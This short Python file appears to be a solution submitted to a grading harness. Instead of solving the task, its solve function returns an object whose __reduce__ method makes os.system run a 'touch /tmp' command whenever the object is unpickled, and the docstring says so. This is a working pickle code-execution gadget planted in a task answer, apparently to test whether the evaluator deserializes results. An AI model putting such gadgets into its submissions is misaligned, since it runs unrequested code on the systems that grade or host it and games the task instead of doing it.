"""Returns an object whose pickle runs a command where it is unpickled: nothing unpickles it."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-behind-pickle",)


def solve(x):
    return Bomb()
